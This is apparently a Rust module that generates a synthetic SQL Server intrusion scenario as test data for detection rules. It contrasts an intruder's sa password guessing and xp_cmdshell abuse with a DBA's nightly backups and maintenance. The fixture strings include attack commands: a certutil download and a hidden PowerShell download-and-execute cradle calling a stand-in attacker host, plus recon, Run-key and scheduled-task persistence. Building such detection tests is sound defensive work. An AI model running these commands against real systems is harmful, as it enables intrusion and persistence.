//! A database server on which somebody guesses the password of `sa`, switches xp_cmdshell on and works from there;
//! beside it what the database administrators do every night and morning, which looks much the same.

use std::rc::Rc;

use serde_json::{Map, json};

use super::host::{Account, Act, Host, Process, RegistryValue, Remote, SYSTEM_ACCOUNT, clock};
use super::images::{self, Image};
use super::ordinary::{Booted, ORDINARY, boot};
use super::record::{MILLISECOND, SECOND, Schema, Ticks, UnknownName};
use super::scenario::{Expectations, Form, OPTION_ENABLED, SHELL_CHILD, STORED_PROCEDURES, Scenario};

const fn service(name: &'static str, sid: &'static str, logon_id: i64) -> Account {
    let (integrity, elevation) = ("High", "TokenElevationTypeDefault");
    Account { domain: "NT SERVICE", name, sid, integrity, elevation, logon_id, session: 0 }
}

static SQL_SERVICE: Account =
    service("MSSQLSERVER", "S-1-5-80-3880718306-3832830129-1677859214-2598158968-1052248003", 112_904);
static AGENT_SERVICE: Account =
    service("SQLSERVERAGENT", "S-1-5-80-344959196-2060754871-2302487193-2804545603-1466107430", 118_337);

static ADMINISTRATOR: Account = Account {
    domain: "CORP",
    name: "lena.ortiz",
    sid: "S-1-5-21-1757981266-1645522239-839522115-1184",
    integrity: "High",
    elevation: "TokenElevationTypeFull",
    logon_id: 3_904_571,
    session: 2,
};

const INTRUDER: Remote<'static> = Remote { address: "203.0.113.45", port: 50_912, url: "" };
const STAGE: Remote<'static> = Remote { address: "203.0.113.66", port: 80, url: "203.0.113.66" };
const CONTROL: Remote<'static> = Remote { address: "203.0.113.66", port: 443, url: "sync.example.net" };
const INSTANCE: &str = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQLServer";

const NIGHTLY: &str = "false positive: the nightly backup switches it on for its own run";
const DEPLOYMENT: &str = "false positive: a deployment switches it on for its own run";
const INTRUSION: &str = "the intruder switches it on";

struct Server {
    host: Host,
    expect: Expectations,
    sql: Rc<Process>,
    agent: Rc<Process>,
}

pub fn xp_cmdshell(day: Ticks, schema: &Schema) -> Result<Scenario, UnknownName> {
    let mut host = Host::new("sql01.corp.example", "10.20.4.21", 0x5eed_0001);
    let booted = boot(&mut host, clock(day, 0, 20, 4));
    host.describe(clock(day, 0, 22, 0), "192.0.2.21");
    let at = clock(day, 0, 20, 31);
    let command_line = format!("\"{}\" -sMSSQLSERVER", images::SQLSERVR.path);
    let (_, sql) = host.start_as(at, &booted.services, &images::SQLSERVR, &command_line, &SQL_SERVICE);
    let command_line = format!("\"{}\" -i MSSQLSERVER", images::SQLAGENT.path);
    let (_, agent) = host.start_as(at + 6 * SECOND, &booted.services, &images::SQLAGENT, &command_line, &AGENT_SERVICE);
    host.start_as(
        at + 7 * SECOND,
        &booted.services,
        &images::SQLWRITER,
        &format!("\"{}\"", images::SQLWRITER.path),
        &SYSTEM_ACCOUNT,
    );
    host.start_as(
        at + 9 * SECOND,
        &booted.services,
        &images::SQLCEIP,
        &format!("\"{}\" -Service", images::SQLCEIP.path),
        &SQL_SERVICE,
    );

    let mut server = Server { host, expect: Expectations::default(), sql, agent };
    booted.fill(&mut server.host, clock(day, 0, 25, 0), clock(day, 8, 55, 0), 130, &ORDINARY);
    server.nightly_backup(day);
    server.agent_jobs(day);
    server.maintenance(day, &booted);
    server.guess_password(day);
    server.look_around(day);
    server.fetch_tools(day);
    server.configure(day);
    server.drop_payload(day);
    server.vary_and_tidy(day);
    booted.fill(&mut server.host, clock(day, 9, 20, 0), clock(day, 10, 30, 0), 45, &ORDINARY);
    Scenario::new("xp-cmdshell", Form::Lines, server.host, server.expect, schema)
}

impl Server {
    /// `EXEC xp_cmdshell '…'`: SQL Server starts cmd.exe, which seed rule 2 takes for what it is.
    fn xp_cmdshell(&mut self, at: Ticks, command: &str, why: &'static str) -> Rc<Process> {
        let (act, shell) = self.host.start(at, &self.sql, &images::CMD, &format!("\"cmd.exe\" /c {command}"));
        self.expect.matches(STORED_PROCEDURES, act, why);
        let console = r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1";
        let (act, _) = self.host.start(at + 11 * MILLISECOND, &shell, &images::CONHOST, console);
        self.expect.misses(SHELL_CHILD, act, "the console of the shell: not listed, and its hash is signed and common");
        shell
    }

    /// The program that the shell runs.
    fn grandchild(
        &mut self,
        at: Ticks,
        shell: &Rc<Process>,
        image: &'static Image,
        command_line: &str,
    ) -> (Act, Rc<Process>) {
        self.host.start(at + 34 * MILLISECOND, shell, image, command_line)
    }

    /// Event 15457 of the server: an option of sp_configure changed.
    fn option_changed(&mut self, at: Ticks, option: &str, (old, new): (&str, &str), why: &'static str) {
        let additional = json!({
            "Option": option, "OldValue": old, "NewValue": new, "EventId": 15457, "Provider": "MSSQLSERVER",
            "Server": "SQL01", "Database": "master", "Severity": 10,
        });
        let act = self.host.other(at, &self.sql, "SqlConfigurationChanged", additional);
        match (option, new) {
            ("show advanced options", _) => self.expect.misses(OPTION_ENABLED, act, "shows options, enables none"),
            (_, "0") => self.expect.misses(OPTION_ENABLED, act, "NewValue is 0: the option is switched off"),
            _ => self.expect.matches(OPTION_ENABLED, act, why),
        }
    }

    fn nightly_backup(&mut self, day: Ticks) {
        self.option_changed(clock(day, 1, 59, 51), "show advanced options", ("0", "1"), NIGHTLY);
        self.option_changed(clock(day, 1, 59, 52), "xp_cmdshell", ("0", "1"), NIGHTLY);
        self.host.file(clock(day, 1, 59, 58), &self.sql, "FileCreated", r"E:\MSSQL\Backup\Orders_full_20260302.bak");
        let why = "false positive: the nightly backup is copied to a share";
        self.xp_cmdshell(
            clock(day, 2, 0, 5),
            r"copy /Y E:\MSSQL\Backup\Orders_full_20260302.bak \\backup01.corp.example\sql$\",
            why,
        );
        let command = r"robocopy E:\MSSQL\Backup \\backup01.corp.example\sql$ *.trn /MOV /R:2";
        let shell = self.xp_cmdshell(clock(day, 2, 5, 0), command, why);
        let (act, robocopy) = self.grandchild(clock(day, 2, 5, 0), &shell, &images::ROBOCOPY, command);
        self.expect.matches(
            SHELL_CHILD,
            act,
            "false positive: robocopy.exe is a listed name, the copy is the nightly backup",
        );
        let share = Remote { address: "10.20.4.30", port: 445, url: "backup01.corp.example" };
        self.host.connect(clock(day, 2, 5, 1), &robocopy, "ConnectionSuccess", &share);

        let why = "false positive: maintenance by xp_cmdshell on this host";
        let command = format!("\"{}\" --verify Orders", images::LOGSHIP.path);
        let shell = self.xp_cmdshell(clock(day, 2, 10, 0), &command, why);
        let (act, _) = self.grandchild(clock(day, 2, 10, 0), &shell, &images::LOGSHIP, &command);
        self.expect.misses(SHELL_CHILD, act, "rare (12 machines), but SignatureState is SignedValid");
        let command = format!(r#""{}" a E:\MSSQL\Backup\Orders.7z E:\MSSQL\Backup\*.bak"#, images::SEVENZIP.path);
        let shell = self.xp_cmdshell(clock(day, 2, 12, 0), &command, why);
        let (act, _) = self.grandchild(clock(day, 2, 12, 0), &shell, &images::SEVENZIP, &command);
        self.expect.misses(SHELL_CHILD, act, "unsigned, but GlobalPrevalence is far above 250");
        self.option_changed(clock(day, 2, 15, 3), "xp_cmdshell", ("1", "0"), NIGHTLY);
        self.option_changed(clock(day, 2, 15, 4), "show advanced options", ("1", "0"), NIGHTLY);
    }

    fn agent_jobs(&mut self, day: Ticks) {
        let agent = Rc::clone(&self.agent);
        let why = "false positive: a job of SQL Server Agent";
        let job = r#""C:\Windows\system32\cmd.exe" /c C:\Jobs\archive-logs.cmd"#;
        let (act, shell) = self.host.start(clock(day, 3, 0, 0), &agent, &images::CMD, job);
        self.expect.matches(STORED_PROCEDURES, act, why);
        let command_line = r"robocopy E:\MSSQL\Log \\backup01.corp.example\logs$ /MINAGE:7";
        let (act, _) = self.host.start(clock(day, 3, 0, 1), &shell, &images::ROBOCOPY, command_line);
        self.expect.misses(SHELL_CHILD, act, "InitiatingProcessParentFileName is SQLAGENT.EXE");
        let job = r"powershell.exe -NoProfile -NonInteractive -File C:\Jobs\index-report.ps1";
        let (act, report) = self.host.start(clock(day, 3, 30, 0), &agent, &images::POWERSHELL, job);
        self.expect.matches(STORED_PROCEDURES, act, why);
        self.host.load(clock(day, 3, 30, 0) + 240 * MILLISECOND, &report, &images::AMSI);
        self.host.file(clock(day, 3, 30, 9), &report, "FileCreated", r"C:\Jobs\out\index-report-20260302.csv");
    }

    fn maintenance(&mut self, day: Ticks, booted: &Booted) {
        let desk = Remote { address: "10.20.9.23", port: 53_310, url: "dba-ws1.corp.example" };
        let explorer = booted.log_on(&mut self.host, clock(day, 6, 2, 10), &ADMINISTRATOR, &desk);
        let command_line = r#""C:\Windows\system32\mmc.exe" C:\Windows\SysWOW64\SQLServerManager16.msc"#;
        let (_, manager) = self.host.start(clock(day, 6, 4, 0), &explorer, &images::MMC, command_line);
        let parameters = format!(r"{INSTANCE}\Parameters");
        let value = |name, data| RegistryValue { key: &parameters, kind: "String", name, data, previous: "" };
        let act = self.host.registry(clock(day, 6, 5, 12), &manager, "RegistryValueSet", &value("SQLArg3", "-T1222"));
        self.expect.misses(STORED_PROCEDURES, act, "RegistryValueName has none of the words looked for");
        let act = self.host.registry(
            clock(day, 6, 5, 13),
            &manager,
            "RegistryValueSet",
            &value("Startup Trace Flags", "1222"),
        );
        self.expect.matches(
            STORED_PROCEDURES,
            act,
            "false positive: an administrator sets a startup parameter in the maintenance window",
        );

        self.option_changed(clock(day, 7, 14, 40), "clr enabled", ("0", "1"), DEPLOYMENT);
        self.host.load(clock(day, 7, 14, 58), &self.sql, &images::CLR);
        let act = self.host.file(clock(day, 7, 15, 2), &self.sql, "FileCreated", images::GEOTOOLS.path);
        self.expect.matches(
            STORED_PROCEDURES,
            act,
            "false positive: the assembly of a mapping application is deployed",
        );
        let act = self.host.file(clock(day, 7, 15, 3), &self.sql, "FileModified", r"C:\Deploy\Assemblies\deploy.log");
        self.expect.misses(STORED_PROCEDURES, act, "ActionType is FileModified");
        self.host.load(clock(day, 7, 15, 6), &self.sql, &images::GEOTOOLS);
        self.option_changed(clock(day, 7, 40, 0), "clr enabled", ("1", "0"), DEPLOYMENT);
    }

    fn guess_password(&mut self, day: Ticks) {
        self.host.connect(
            clock(day, 8, 58, 1),
            &self.sql,
            "InboundConnectionAccepted",
            &Remote { port: 1433, ..INTRUDER },
        );
        for attempt in 0..14 {
            let reason = "Password did not match that for the login provided.";
            let at = clock(day, 8, 58, 2) + attempt * 21_700 * MILLISECOND;
            self.host.sql_logon(at, &self.sql, "sa", &INTRUDER, reason);
        }
        self.host.sql_logon(clock(day, 9, 4, 2), &self.sql, "sa", &INTRUDER, "");
        self.option_changed(clock(day, 9, 5, 10), "show advanced options", ("0", "1"), INTRUSION);
        self.option_changed(clock(day, 9, 5, 12), "xp_cmdshell", ("0", "1"), INTRUSION);
        let additional =
            json!({"Library": "xplog70.dll", "Procedure": "xp_cmdshell", "EventId": 8128, "Provider": "MSSQLSERVER"});
        self.host.other(clock(day, 9, 5, 19), &self.sql, "SqlExtendedProcedureLoaded", additional);
    }

    fn look_around(&mut self, day: Ticks) {
        let why = "xp_cmdshell runs a command of the intruder";
        let listed = "the command of the intruder is a listed name";
        let commands: [(i64, i64, &'static Image, &str); 4] = [
            (5, 20, &images::WHOAMI, "whoami"),
            (5, 41, &images::IPCONFIG, "ipconfig /all"),
            (6, 10, &images::NET, "net localgroup administrators"),
            (6, 40, &images::NET, "net group \"Domain Admins\" /domain"),
        ];
        for (minute, second, image, command) in commands {
            let at = clock(day, 9, minute, second);
            let shell = self.xp_cmdshell(at, command, why);
            let (act, process) = self.grandchild(at, &shell, image, command);
            self.expect.matches(SHELL_CHILD, act, listed);
            if std::ptr::eq(image, &raw const images::NET) {
                let command_line = format!(r"C:\Windows\system32\net1 {}", command.trim_start_matches("net "));
                let (act, _) = self.host.start(at + 60 * MILLISECOND, &process, &images::NET1, &command_line);
                self.expect.misses(SHELL_CHILD, act, "a great-grandchild: InitiatingProcessParentFileName is cmd.exe");
            }
        }
        self.xp_cmdshell(clock(day, 9, 7, 5), r"dir C:\ProgramData", why);
        let shell = self.xp_cmdshell(clock(day, 9, 7, 30), "hostname", why);
        let (act, _) = self.grandchild(clock(day, 9, 7, 30), &shell, &images::HOSTNAME, "hostname");
        self.expect.misses(SHELL_CHILD, act, "hostname.exe is not listed, and its hash is signed and common");
    }

    fn fetch_tools(&mut self, day: Ticks) {
        let why = "xp_cmdshell runs a command of the intruder";
        let command = r"certutil -urlcache -split -f http://203.0.113.66/u.dat C:\Windows\Temp\nbtq.exe";
        let at = clock(day, 9, 8, 2);
        let shell = self.xp_cmdshell(at, command, why);
        let (act, certutil) = self.grandchild(at, &shell, &images::CERTUTIL, command);
        self.expect.matches(SHELL_CHILD, act, "certutil.exe fetches a file: a listed name");
        self.host.load(at + 200 * MILLISECOND, &certutil, &images::URLMON);
        self.host.connect(at + 400 * MILLISECOND, &certutil, "ConnectionSuccess", &STAGE);
        let origin = Map::from_iter([("url".to_owned(), json!("http://203.0.113.66/u.dat"))]);
        let act = self.host.file_with(at + SECOND, &certutil, "FileCreated", images::SCANNER.path, origin);
        self.expect.misses(
            STORED_PROCEDURES,
            act,
            "InitiatingProcessFileName is certutil.exe, the server did not write it itself",
        );

        let command = r"C:\Windows\Temp\nbtq.exe 10.20.4.0/24";
        let at = clock(day, 9, 9, 0);
        let shell = self.xp_cmdshell(at, command, why);
        let (act, scanner) = self.grandchild(at, &shell, &images::SCANNER, command);
        self.expect.matches(SHELL_CHILD, act, "no listed name, but an unsigned hash seen on 7 machines");
        for number in [11, 30, 52, 60] {
            let address = format!("10.20.4.{number}");
            self.host.connect(
                at + number * 90 * MILLISECOND,
                &scanner,
                "ConnectionSuccess",
                &Remote { address: &address, port: 445, url: "" },
            );
        }

        let command = "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')\"";
        let at = clock(day, 9, 11, 4);
        let shell = self.xp_cmdshell(at, command, why);
        let (act, powershell) = self.grandchild(at, &shell, &images::POWERSHELL, command);
        self.expect.matches(SHELL_CHILD, act, "powershell.exe runs a download cradle: a listed name");
        self.host.load(at + 300 * MILLISECOND, &powershell, &images::AMSI);
        self.host.other(
            at + 700 * MILLISECOND,
            &powershell,
            "PowerShellCommand",
            json!({"Command": "Invoke-Expression"}),
        );
        self.host.connect(at + 800 * MILLISECOND, &powershell, "ConnectionSuccess", &STAGE);
    }

    fn configure(&mut self, day: Ticks) {
        self.option_changed(clock(day, 9, 12, 10), "clr enabled", ("0", "1"), INTRUSION);
        self.host.load(clock(day, 9, 12, 22), &self.sql, &images::XPSTAR);
        let configuration = format!(r"{INSTANCE}\SurfaceArea");
        for (second, name) in [(25, "xp_cmdshell"), (26, "clr enabled")] {
            let value = RegistryValue { key: &configuration, kind: "Dword", name, data: "1", previous: "0" };
            let act = self.host.registry(clock(day, 9, 12, second), &self.sql, "RegistryValueSet", &value);
            self.expect.matches(STORED_PROCEDURES, act, "xp_regwrite keeps the options on for the configuration agent");
        }
        let run = RegistryValue {
            key: r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            kind: "String",
            name: "SQL startup helper",
            data: images::PAYLOAD.path,
            previous: "",
        };
        let act = self.host.registry(clock(day, 9, 12, 40), &self.sql, "RegistryValueSet", &run);
        self.expect.misses(STORED_PROCEDURES, act, "RegistryKey is not one of SQL Server's");
    }

    fn drop_payload(&mut self, day: Ticks) {
        let act = self.host.file(clock(day, 9, 13, 4), &self.sql, "FileCreated", images::PAYLOAD.path);
        self.expect.matches(STORED_PROCEDURES, act, "the server writes a program outside its own folders");
        let act = self.host.file(clock(day, 9, 13, 5), &self.sql, "FileCreated", r"E:\MSSQL\Backup\updhost.tmp");
        self.expect.misses(STORED_PROCEDURES, act, r"FolderPath has \MSSQL\");
        let command = r"C:\ProgramData\SvcUpd\updhost.exe -d";
        let at = clock(day, 9, 13, 20);
        let shell = self.xp_cmdshell(at, command, "xp_cmdshell runs the dropped program");
        let (act, payload) = self.grandchild(at, &shell, &images::PAYLOAD, command);
        self.expect.matches(SHELL_CHILD, act, "no listed name; the file profile has never seen the hash");
        for minute in 0..6 {
            self.host.connect(at + SECOND + minute * 57 * SECOND, &payload, "ConnectionSuccess", &CONTROL);
        }
        let task = r"schtasks /create /tn SvcUpd /tr C:\ProgramData\SvcUpd\updhost.exe /sc onstart /ru SYSTEM";
        let (_, command) = self.host.start(at + 30 * SECOND, &payload, &images::CMD, &format!("cmd.exe /c {task}"));
        let (act, _) = self.host.start(at + 30 * SECOND + 40 * MILLISECOND, &command, &images::SCHTASKS, task);
        self.expect.misses(SHELL_CHILD, act, "InitiatingProcessParentFileName is updhost.exe, two steps further down");
        self.host.other(
            at + 31 * SECOND,
            &payload,
            "ScheduledTaskCreated",
            json!({"TaskName": "\\SvcUpd", "TaskContent": command.command_line}),
        );
    }

    fn vary_and_tidy(&mut self, day: Ticks) {
        let sql = Rc::clone(&self.sql);
        let (act, _) = self.host.start(clock(day, 9, 15, 30), &sql, &images::WHOAMI, "whoami /groups");
        self.expect.matches(STORED_PROCEDURES, act, "an assembly starts whoami.exe without a shell");
        self.expect.misses(SHELL_CHILD, act, "a child, not a grandchild: no shell lies between");
        let command_line = r#""C:\Windows\system32\cmd.exe" /c whoami /priv"#;
        let (act, shell) = self.host.start(clock(day, 9, 16, 2), &sql, &images::CMD, command_line);
        self.expect.matches(STORED_PROCEDURES, act, "xp_cmdshell runs a command of the intruder");
        let (act, _) = self.grandchild(clock(day, 9, 16, 2), &shell, &images::WHOAMI, "whoami  /priv");
        self.expect.misses(
            SHELL_CHILD,
            act,
            "a true command of the intruder: InitiatingProcessCommandLine starts with the full path of cmd.exe",
        );
        self.option_changed(clock(day, 9, 17, 10), "xp_cmdshell", ("1", "0"), INTRUSION);
        self.option_changed(clock(day, 9, 17, 11), "show advanced options", ("1", "0"), INTRUSION);
    }
}
